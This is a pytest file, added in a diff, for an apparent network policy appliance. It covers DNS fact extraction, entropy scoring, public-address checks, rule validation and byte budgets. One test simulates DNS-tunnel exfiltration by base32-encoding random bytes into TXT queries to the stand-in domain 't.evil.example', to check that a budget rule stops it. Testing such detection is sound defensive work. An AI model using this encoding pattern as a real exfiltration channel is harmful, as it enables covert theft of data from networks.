@@ -1,0 +1,165 @@
+"""What a question of DNS is, in the words of rules; and a tunnel that comes to its end."""
+
+import base64
+import random
+
+import pytest
+
+from appliance.config import rules
+from appliance.facts import Facts
+from appliance.facts.dns import entropy
+from appliance.facts.hosts import public
+from appliance.facts.moved import MAX_COUNTED, Moved
+from appliance.facts.readers import Shared
+from appliance.facts.readers import open as open_reader
+from appliance.model import Address, ConfigError, Flow, Message, Process, Received, Send, Side
+from appliance.session import Session
+from appliance.wire.dns import DNS
+from tests.session.playbook import Playbook
+from tests.wire.dns.given import answer, edns, question, record
+
+C, S = Side.CLIENT, Side.SERVER
+
+
+def facts(data: bytes) -> Facts:
+    [message] = DNS().feed(C, data)
+    found = open_reader("dns", Shared()).ask(message)
+    assert found is not None
+    return found
+
+
+def test_each_word() -> None:
+    found = facts(question("A.bcd.Example.com", "TXT", opt=edns((10, bytes(8)), (65001, b"x"))))
+    assert {key: set(values) for key, values in found.values.items()} == {
+        "qname": {"a.bcd.example.com"},
+        "qtype": {"TXT"},
+        "qclass": {"IN"},
+        "labels": {"4"},
+        "label": {"7"},
+        "length": {"19"},
+        "entropy": {"200"},
+        "option": {"cookie", "65001"},
+        "size": {str(12 + 19 + 4 + 11 + 12 + 5)},
+        "text": {"a.bcd.example.com"},
+        "rate": {"1"},
+        "bytes": {"63"},
+        "unit_rate": {"1"},
+        "unit_bytes": {"63"},
+    }
+    assert found.subject == "TXT a.bcd.example.com"
+
+
+def test_the_root_and_a_type_without_a_name() -> None:
+    data = question("")[:-4] + b"\xff\x00\0\3"
+    found = facts(data)
+    assert (found.values["qname"], found.values["qtype"], found.values["qclass"]) == ({"."}, {"OTHER"}, {"CH"})
+    assert (found.values["labels"], found.values["length"], found.values["entropy"]) == ({"0"}, {"1"}, {"0"})
+
+
+def test_bytes_that_are_no_characters_count_as_one() -> None:
+    [message] = DNS().feed(C, question("x")[:12] + b"\3\0\xff.\0\0\1\0\1")
+    found = open_reader("dns", Shared()).ask(message)
+    assert found is not None
+    assert (found.values["label"], found.values["length"]) == ({"3"}, {"5"})
+
+
+@pytest.mark.parametrize(("text", "least", "most"), [("", 0, 0), ("aaaa", 0, 0), ("www", 0, 0), ("mail", 200, 200), ("0123456789abcdef", 400, 400)])
+def test_entropy(text: str, least: int, most: int) -> None:
+    assert least <= entropy(text) <= most
+
+
+@pytest.mark.parametrize("text", ["TXT WWW.Example.", "txt www.example"])
+def test_a_question_as_a_person_types_it(text: str) -> None:
+    found = open_reader("dns", Shared()).ask(Message(C, "query", b"", text=text))
+    assert found is not None
+    assert (found.values["qname"], found.values["qtype"]) == ({"www.example"}, {"TXT"})
+
+
+@pytest.mark.parametrize(
+    ("host", "answer"),
+    [
+        ("1.1.1.1", True), ("10.0.0.1", False), ("100.64.0.1", False), ("127.0.0.1", False), ("169.254.169.254", False),
+        ("0.0.0.0", False), ("224.0.0.1", False), ("255.255.255.255", False), ("2606:4700::1111", True), ("::1", False),
+        ("fe80::1", False), ("fd00::1", False), ("::ffff:10.0.0.1", False), ("::ffff:1.1.1.1", True), ("ff02::1", False),
+        ("64:ff9b::a00:1", False), ("64:ff9b::101:101", True), ("2002:a00:1::", False),
+        ("2001:0:4136:e378:8000:63bf:f5ff:fffe", False),
+    ],
+)  # fmt: skip
+def test_which_addresses_anybody_may_have(host: str, answer: bool) -> None:
+    assert public(host) is answer
+
+
+def test_what_is_known_only_with_the_answer_cannot_allow() -> None:
+    with pytest.raises(ConfigError, match="`answer` is known when the question has gone up"):
+        rules([("r.yaml", "rules: [{id: a, when: {answer: '1.1.1.1', qname: a.example}, do: allow}]")], lambda host: [])
+
+
+@pytest.mark.parametrize(
+    "rule", ["{id: a, do: block, reply: nxdomain}", "{id: a, to: 10.0.0.0/8, do: block, reply: nxdomain}",
+             "{id: a, when: {effect: drop}, do: block, reply: nxdomain}"],
+)  # fmt: skip
+def test_a_reply_is_for_questions_of_dns(rule: str) -> None:
+    with pytest.raises(ConfigError, match="`reply` is for dns, and this rule may be about others"):
+        rules([("r.yaml", f"rules: [{rule}]")], lambda host: [])
+
+
+def test_a_reply_is_for_rules_that_block() -> None:
+    with pytest.raises(ConfigError, match="`reply` is for rules that block"):
+        rules([("r.yaml", "rules: [{id: a, when: {qname: a.example}, do: allow, reply: nxdomain}]")], lambda host: [])
+
+
+def test_only_so_many_are_counted_and_the_one_longest_still_goes() -> None:
+    moved = Moved()
+    first = Process(0, 0, "", (), "unit-0", 0)
+    moved.add(first, 0.0, 1, 100)
+    for pid in range(1, MAX_COUNTED):
+        moved.add(Process(pid, pid, "", (), "unit-0", 0), 0.0, 1, 1)
+    assert moved.values(first, 0.0, 0)["bytes"] == {"0"}, "the process is forgotten"
+    assert moved.values(first, 0.0, 0)["unit_bytes"] == {str(100 + MAX_COUNTED - 1)}, "its unit is not"
+
+
+# -- a tunnel -----------------------------------------------------------------------------------------------------
+
+BUDGET = 10_000  # bytes of questions and answers of a unit in an hour
+TUNNEL = f"""
+    targets: {{resolver: {{protocol: dns, address: "10.0.0.53:53"}}}}
+    rules:
+      - {{id: budget, to: resolver, when: {{unit_bytes: {{gt: {BUDGET}}}}}, do: block}}
+      - {{id: names, to: resolver, do: allow}}
+"""
+
+
+def test_a_tunnel_is_stopped_within_its_bytes_whatever_processes_it_starts() -> None:
+    policy = rules([("r.yaml", TUNNEL)], lambda host: [])
+    shared, carried, refused = Shared(), 0, 0
+    secret = random.Random(7)
+    for n in range(400):
+        process = Process(100 + n, n, "/usr/bin/dig", (), "acme.service/child", 1000)
+        flow = Flow(f"f{n}", 0.0, Address("10.0.0.1", 1024 + n), Address("10.0.0.53", 53), process, transport="udp")
+        p = Playbook(Session(flow, lambda: policy, shared))
+        p.take()
+        data = base64.b32encode(secret.randbytes(35)).decode().strip("=").lower()
+        ask = question(f"{data}.t.evil.example", "TXT", id_=n)
+        p >> Received(C, ask)
+        if any(isinstance(effect, Send) and effect.to is S for effect in p.take()):
+            told = answer(f"{data}.t.evil.example", record(b"\xc0\x0c", "TXT", b"\x20" + secret.randbytes(32)), qtype="TXT", id_=n)
+            p >> Received(S, told)
+            p.take()
+            carried += len(ask) + len(told)
+        else:
+            refused += 1
+    assert refused > 200
+    assert BUDGET / 2 < carried <= BUDGET + len(told), "what is asked within the budget is answered"
+
+
+def test_a_process_that_asks_the_same_all_day_has_an_hour() -> None:
+    policy = rules([("r.yaml", TUNNEL)], lambda host: [])
+    flow = Flow("f", 0.0, Address("10.0.0.1", 1024), Address("10.0.0.53", 53), None, transport="udp")
+    p = Playbook(Session(flow, lambda: policy, Shared()))
+    p.take()
+    went = 0
+    for _ in range(24 * 12):  # one each five minutes
+        p >> Received(C, question("updates.example.com"))
+        went += any(isinstance(effect, Send) and effect.to is S for effect in p.take())
+        p.wait(300)
+    assert went == 24 * 12
